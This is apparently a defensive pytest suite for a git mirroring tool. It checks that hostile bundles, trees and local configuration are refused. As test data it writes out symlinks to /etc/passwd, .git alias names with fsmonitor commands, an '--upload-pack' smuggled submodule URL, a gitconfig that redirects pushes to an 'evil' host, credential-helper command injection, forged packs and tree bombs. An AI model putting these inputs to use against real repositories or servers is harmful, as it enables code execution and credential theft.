"""Hostile trees, bundles and machines: what a work step may send, and what may lie around where the operator runs."""

from __future__ import annotations

import os
import shutil
import struct
import unicodedata
import zlib
from hashlib import sha1
from pathlib import Path

import pytest

from orch import errors
from orch.adapters.git import MirrorGit
from orch.api.v1alpha1 import GuardAction, GuardsSpec
from orch.policy.guards import evaluate, verdict
from orch.ports import Credential, Remote, TreeDiff

from .conftest import TOKEN, Server, Work, run_git

SECRET = "AKIA" + "QWERTYUIOPASDFGH"


async def diff_of(git: MirrorGit, remote: Remote, person: Work, sha: str, base: str) -> TreeDiff:
    await git.import_bundle(remote, person.bundle(sha, base), sha=sha)
    return await git.diff(remote, base=base, sha=sha, read=True)


def denied(diff: TreeDiff) -> set[str]:
    return {f.rule for f in evaluate(diff, GuardsSpec()) if f.action is GuardAction.DENY}


async def test_links_and_submodules_are_told_by_their_mode(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    link = person.blob(b"/etc/passwd")
    sha = person.tree_commit([("120000", link, b"link"), ("160000", "1" * 40, b"module")], base)
    diff = await diff_of(git, remote, person, sha, base)
    assert {c.path: c.new_mode for c in diff.changes} == {"link": "120000", "module": "160000"}
    assert denied(diff) == {"120000", "160000"}


async def test_a_file_that_becomes_a_link(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    (person.path / "README.md").unlink()
    (person.path / "README.md").symlink_to("/etc/passwd")
    sha = person.commit({"z.txt": "after it in the patch\n"})
    diff = await diff_of(git, remote, person, sha, base)
    assert [(c.path, c.status) for c in diff.changes] == [("README.md", "T"), ("z.txt", "A")]
    assert "120000" in denied(diff)


@pytest.mark.parametrize("name", [b".git", b".GIT", b"git~1", b".g\xe2\x80\x8cit", b".git "])
async def test_a_tree_with_an_alias_of_git_never_gets_in(
    git: MirrorGit, remote: Remote, person: Work, name: bytes
) -> None:
    base = await git.fetch(remote, "main")
    sha = raw_tree_commit(person, base, [(b"100644", name, person.blob(b"[core]\n\tfsmonitor = touch /tmp/x\n"))])
    with pytest.raises(errors.Terminal) as caught:
        await diff_of(git, remote, person, sha, base)
    assert caught.value.reason == "UnreadableBundle"


def raw_tree_commit(person: Work, parent: str, entries: list[tuple[bytes, bytes, str]]) -> str:
    """A commit of a tree that git itself would refuse to write."""
    content = b"".join(mode + b" " + name + b"\0" + bytes.fromhex(blob) for mode, name, blob in entries)
    tree = person.git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", stdin=content)
    return person.git("commit-tree", tree, "-p", parent, "-m", "raw")


@pytest.mark.parametrize(
    "entries",
    [
        pytest.param([(b"100644", b"b"), (b"100644", b"a")], id="not sorted"),
        pytest.param([(b"100644", b"a"), (b"100644", b"a")], id="a name twice"),
        pytest.param([(b"100644", b"..")], id="dot dot"),
        pytest.param([(b"100644", b"a/b")], id="a slash in a name"),
    ],
)
async def test_trees_that_fsck_refuses(
    git: MirrorGit, remote: Remote, person: Work, entries: list[tuple[bytes, bytes]]
) -> None:
    base = await git.fetch(remote, "main")
    blob = person.blob(b"x")
    sha = raw_tree_commit(person, base, [(mode, name, blob) for mode, name in entries])
    with pytest.raises(errors.Terminal) as caught:
        await git.import_bundle(remote, person.bundle(sha, base), sha=sha)
    assert caught.value.reason == "UnreadableBundle"
    with pytest.raises(errors.Transient):  # nothing of it is in the mirror
        await git.diff(remote, base=base, sha=sha)


async def test_a_hostile_gitmodules_is_refused(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    sha = person.commit({".gitmodules": '[submodule "../../x"]\n\tpath = x\n\turl = --upload-pack=touch\n'})
    with pytest.raises(errors.Terminal, match="refused"):
        await git.import_bundle(remote, person.bundle(sha, base), sha=sha)


async def test_paths_that_collide_elsewhere(git: MirrorGit, remote: Remote, person: Work) -> None:
    blob = person.blob(b"x\n")
    nfc, nfd = (unicodedata.normalize(form, "é.txt").encode() for form in ("NFC", "NFD"))
    base = await git.fetch(remote, "main")
    names = [b"readme.MD", nfc, nfd, b"plain.txt"]
    sha = person.tree_commit([("100644", blob, name) for name in names], base)
    diff = await diff_of(git, remote, person, sha, base)
    assert diff.all_paths == {"README.md", "readme.MD", nfc.decode(), nfd.decode()}
    assert denied(diff) == {"PathCollision"}


async def test_a_directory_that_collides_with_a_link(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    sha = person.tree_commit([("120000", person.blob(b".git/hooks"), b"SRC")], base)
    diff = await diff_of(git, remote, person, sha, base)
    assert diff.all_paths == {"SRC", "src"}


async def test_a_collision_that_was_there_before_is_nobodys_fault(git: MirrorGit, remote: Remote, person: Work) -> None:
    old = await git.fetch(remote, "main")
    blob = person.blob(b"x\n")
    both = person.tree_commit([("100644", blob, b"a.h"), ("100644", blob, b"A.h")], old)
    person.git("push", "-q", str(person.bare), f"{both}:refs/heads/main")
    base = await git.fetch(remote, "main")
    sha = person.tree_commit([("100644", blob, b"other.h")], both)
    diff = await diff_of(git, remote, person, sha, base)
    assert diff.all_paths == frozenset()
    assert verdict(evaluate(diff, GuardsSpec())) is GuardAction.ALLOW


async def test_names_that_are_no_utf8_or_hold_newlines(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    blob = person.blob(b"x\n")
    sha = person.tree_commit([("100644", blob, b"a\xff"), ("100644", blob, b"b\n+++ c")], base)
    diff = await diff_of(git, remote, person, sha, base)
    assert len(diff.changes) == 2
    assert denied(diff) == {"PathUnreadable"}
    assert all(f.path.isprintable() for f in evaluate(diff, GuardsSpec()))


@pytest.mark.parametrize("attributes", ["*.psd filter=lfs diff=lfs\n", "[attr]big filter=lfs\n*.psd big\n"])
async def test_lfs_by_attribute(git: MirrorGit, remote: Remote, person: Work, attributes: str) -> None:
    base = await git.fetch(remote, "main")
    sha = person.commit({"art/x.psd": "pixels\n", "art/.gitattributes": "*.txt text\n", ".gitattributes": attributes})
    diff = await diff_of(git, remote, person, sha, base)
    assert diff.attributes == {"art/x.psd": "lfs"}
    assert "LargeFileStorage" in denied(diff)


async def test_lfs_by_content(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 12345\n"
    diff = await diff_of(git, remote, person, person.commit({"x.bin": pointer}), base)
    assert diff.attributes == {"x.bin": "lfs"}


async def test_attributes_of_the_tree_hide_nothing(git: MirrorGit, remote: Remote, person: Work) -> None:
    """`-diff`, `binary` and `diff=…` in the tree change what git shows, if it is let."""
    base = await git.fetch(remote, "main")
    attributes = "* -diff\n*.py binary\n*.txt diff=evil\n* text eol=crlf\n*.md working-tree-encoding=UTF-32\n"
    person.commit({"x.py": f"{SECRET}\n", "y.txt": "text\n"})
    sha = person.tree_commit([("100644", person.blob(attributes.encode()), b".gitattributes")], "HEAD")
    diff = await diff_of(git, remote, person, sha, base)
    assert [(f.path, f.subject) for f in diff.facts or ()] == [("x.py", "AWS Access Key")]
    assert not any(c.binary for c in diff.changes)
    assert f"+{SECRET}" in await git.patch(remote, base=base, sha=sha)


async def test_a_rename_out_of_a_protected_path_is_a_deletion(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    person.git("mv", "src/app.py", "elsewhere.py")
    diff = await diff_of(git, remote, person, person.commit({}), base)
    assert {(c.path, c.status) for c in diff.changes} == {("src/app.py", "D"), ("elsewhere.py", "A")}


async def test_huge_files_are_told_by_size_not_read(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    diff = await diff_of(git, remote, person, person.commit({"big.txt": b"0123456789abcde\n" * (20 << 16)}), base)
    (change,) = diff.changes
    assert change.size == 20 << 20
    assert change.binary
    assert diff.facts == ()


async def test_what_is_larger_than_what_is_read_asks(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    diff = await diff_of(git, remote, person, person.commit({"long.txt": b"0123456789abcde\n" * (2 << 16)}), base)
    assert "not searched" in {f.rule for f in evaluate(diff, GuardsSpec())}


async def test_a_manifest_of_ours_is_seen_by_its_whole_content(
    git: MirrorGit, remote: Remote, person: Work, server: Server
) -> None:
    manifest = "apiVersion: 'orch.dev/v1alpha1'\nkind: OrchestratedRepo\nspec: {approvals: {quorum: 2}}\n"
    person.commit({"deploy/policy.yaml": manifest})
    person.push()
    base = await git.fetch(remote, "main")
    sha = person.commit({"deploy/policy.yaml": manifest.replace("quorum: 2", "quorum: 1")})
    diff = await diff_of(git, remote, person, sha, base)
    assert diff.attributes == {"deploy/policy.yaml": "orch.dev"}
    assert [f.rule for f in evaluate(diff, GuardsSpec())] == ["orch.dev manifest"]


def test_bundle_bytes(tmp_path: Path) -> None:
    """The forged packs below are what git itself would read, but for what is wrong with them."""
    path = tmp_path / "x.pack"
    path.write_bytes(pack_of([(3, b"hello")]))
    run_git(tmp_path, "init", "-q", ".")
    assert run_git(tmp_path, "index-pack", "--strict", str(path))


def pack_of(objects: list[tuple[int, bytes]], *, count: int | None = None) -> bytes:
    body = b"PACK" + struct.pack(">II", 2, len(objects) if count is None else count)
    for kind, data in objects:
        size = len(data)
        first = (kind << 4) | (size & 15)
        size >>= 4
        head = b""
        while size:
            head += bytes([first | 0x80])
            first, size = size & 0x7F, size >> 7
        body += head + bytes([first]) + zlib.compress(data, 9)
    return body + sha1(body, usedforsecurity=False).digest()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        pytest.param(b"", "no git bundle", id="empty"),
        pytest.param(b"\x00" * 100, "no git bundle", id="NULs"),
        pytest.param(b"# v3 git bundle\n@filter=blob:none\nSHA x\n\n", "not supported", id="a filter"),
        pytest.param(b"# v3 git bundle\n@object-format=sha256\nSHA x\n\n", "not supported", id="sha256"),
        pytest.param(b"# v2 git bundle\nSHA refs/heads/x", "broken header", id="cut in the header"),
        pytest.param(b"# v2 git bundle\n" + b"x" * 5000, "broken header", id="an endless line"),
        pytest.param(b"# v2 git bundle\n\n", "does not hold", id="no refs"),
        pytest.param(b"# v2 git bundle\nSHA refs/heads/x\n\nrubbish", "no pack", id="no pack"),
        pytest.param(
            b"# v2 git bundle\nSHA refs/heads/x\n\n" + pack_of([(3, b"x")])[:-3], "refused", id="cut in the pack"
        ),
        pytest.param(
            b"# v2 git bundle\nSHA refs/heads/x\n\n" + pack_of([(3, b"x")], count=7_000_000),
            "more than 200000 objects",
            id="too many objects",
        ),
        pytest.param(b"# v2 git bundle\nSHA refs/heads/x\n\n" + pack_of([(3, b"x")]), "refused", id="another object"),
        pytest.param(b"# v2 git bundle\n-zzz x\nSHA refs/heads/x\n\n", "not a full commit sha", id="a bad base"),
    ],
)
async def test_unreadable_bundles(
    git: MirrorGit, remote: Remote, person: Work, tmp_path: Path, content: bytes, words: str
) -> None:
    base = await git.fetch(remote, "main")
    path = tmp_path / "x.bundle"
    path.write_bytes(content.replace(b"SHA", b"2" * 40))
    with pytest.raises(errors.Terminal, match=words):
        await git.import_bundle(remote, path, sha="2" * 40)
    assert (await git.diff(remote, base=base, sha=base)).changes == ()
    leftovers = list((tmp_path / "data" / "mirrors" / "github.test-1.git").glob("orch-scratch-*"))
    assert leftovers == []


async def test_a_bundle_that_lacks_what_its_commit_needs(
    git: MirrorGit, remote: Remote, person: Work, tmp_path: Path
) -> None:
    await git.fetch(remote, "main")
    tree = b"100644 gone\0" + bytes.fromhex("3" * 40)
    tree_sha = sha1(b"tree %d\0" % len(tree) + tree, usedforsecurity=False).hexdigest()
    text = f"tree {tree_sha}\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\nm\n".encode()
    sha = sha1(b"commit %d\0" % len(text) + text, usedforsecurity=False).hexdigest()
    path = tmp_path / "x.bundle"
    path.write_bytes(f"# v2 git bundle\n{sha} refs/heads/x\n\n".encode() + pack_of([(2, tree), (1, text)]))
    with pytest.raises(errors.Terminal, match="refused"):
        await git.import_bundle(remote, path, sha=sha)


async def test_size_limit(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    sha = person.commit({"x": "y" * 10_000})
    with pytest.raises(errors.Terminal, match="larger than 100 bytes"):
        await git.import_bundle(remote, person.bundle(sha, base), sha=sha, max_bytes=100)


async def test_unrelated_history(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    tree = person.git("rev-parse", "HEAD^{tree}")
    sha = person.git("commit-tree", tree, "-m", "no parent")
    await git.import_bundle(remote, person.bundle(sha), sha=sha)
    with pytest.raises(errors.Terminal, match="shares no history"):
        await git.diff(remote, base=base, sha=sha)


async def test_configuration_that_lies_around_is_not_used(
    git: MirrorGit, remote: Remote, person: Work, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server: Server
) -> None:
    """A user's `insteadOf` would send the push, and the token with it, elsewhere; hooks and monitors would run."""
    home, proof = tmp_path / "home", tmp_path / "proof"
    home.mkdir()
    hook = home / "hooks" / "pre-push"
    hook.parent.mkdir()
    hook.write_text(f"#!/bin/sh\ntouch {proof}\n")
    hook.chmod(0o755)
    (home / ".gitconfig").write_text(
        f'[url "http://127.0.0.1:9/evil/"]\n\tinsteadOf = {server.url}/\n\tpushInsteadOf = {server.url}/\n'
        f"[core]\n\thooksPath = {hook.parent}\n\tfsmonitor = touch {proof}\n"
        f"[credential]\n\thelper = !touch {proof}\n[include]\n\tpath = {home}/other\n"
    )
    for name, value in {
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home),
        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.sshCommand",
        "GIT_CONFIG_VALUE_0": "touch x",
        "GIT_DIR": str(tmp_path / "elsewhere"),
        "GIT_ASKPASS": f"touch {proof}",
        "GIT_TRACE": str(tmp_path / "trace"),
        "GIT_TRACE_CURL": str(tmp_path / "trace-curl"),
    }.items():
        monkeypatch.setenv(name, value)
    base = await git.fetch(remote, "main")
    await git.push(remote, sha=base, branch="orch/1", expected=None)
    assert server.sha("orch/1") == base
    assert not proof.exists()
    assert not (tmp_path / "trace").exists()


async def test_the_token_is_nowhere_but_in_the_request(
    git: MirrorGit, remote: Remote, person: Work, tmp_path: Path, server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A `git` in front of the real one writes down the arguments, environment and input of every git that runs."""
    real = shutil.which("git")
    tools, log = tmp_path / "tools", tmp_path / "log"
    tools.mkdir()
    log.mkdir()
    fake = tools / "git"
    fake.write_text(f'#!/bin/sh\nfor f in environ cmdline; do cat /proc/$$/$f > {log}/$$.$f; done\nexec {real} "$@"\n')
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    base = await git.fetch(remote, "main")
    await git.push(remote, sha=base, branch="orch/1", expected=None)
    assert any(given.startswith("Basic ") for given in server.authorizations)
    seen = b"".join(p.read_bytes() for p in log.iterdir())
    assert b"push" in seen
    assert TOKEN.encode() not in seen
    on_disk = b"".join(p.read_bytes() for p in (tmp_path / "data").rglob("*") if p.is_file())
    assert TOKEN.encode() not in on_disk
    assert TOKEN not in repr(remote)


async def test_the_token_goes_to_its_own_host_only(
    git: MirrorGit, remote: Remote, person: Work, server: Server
) -> None:
    """One question is answered; a server that keeps asking gets nothing more."""
    wrong = Remote(remote.key, remote.url, Credential("ghp_" + "w" * 36))
    with pytest.raises(errors.CredentialsRefused):
        await git.fetch(wrong, "main")
    assert len([given for given in server.authorizations if given]) == 1


async def test_historic_flaws_of_a_repository_do_not_shut_it_out(
    git: MirrorGit, remote: Remote, person: Work, server: Server
) -> None:
    tree = person.git("rev-parse", "HEAD^{tree}")
    text = f"tree {tree}\nauthor a <a@b> 1 +051800\ncommitter a <a@b> 1 +051800\n\nm\n".encode()
    old = person.git("hash-object", "-w", "-t", "commit", "--literally", "--stdin", stdin=text)
    person.git("push", "-q", "--force", str(person.bare), f"{old}:refs/heads/main")
    assert await git.fetch(remote, "main") == old
    person.git("reset", "-q", "--hard", old)
    sha = person.commit({"a": "b\n"})
    await git.import_bundle(remote, person.bundle(sha), sha=sha)


async def test_a_few_objects_that_make_a_billion_paths(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    tree = person.git("mktree", "-z", stdin=b"100644 blob " + person.blob(b"x").encode() + b"\tf\0")
    for _ in range(10):
        entries = b"".join(b"040000 tree %s\td%d\0" % (tree.encode(), n) for n in range(10))
        tree = person.git("mktree", "-z", stdin=entries)
    sha = person.git("commit-tree", tree, "-p", base, "-m", "bomb")
    await git.import_bundle(remote, person.bundle(sha, base), sha=sha)
    for look in (git.diff, git.patch):
        with pytest.raises(errors.Terminal) as caught:
            await look(remote, base=base, sha=sha)
        assert caught.value.reason == "ChangeTooLarge"


async def test_a_few_bytes_that_make_gigabytes(git: MirrorGit, remote: Remote, person: Work) -> None:
    base = await git.fetch(remote, "main")
    blob = person.blob(b"0123456789abcde\n" * (15 << 16))
    sha = person.tree_commit([("100644", blob, b"f%d" % n) for n in range(80)], base)
    await git.import_bundle(remote, person.bundle(sha, base), sha=sha)
    with pytest.raises(errors.Terminal, check=lambda err: err.reason == "ChangeTooLarge"):
        await git.diff(remote, base=base, sha=sha)
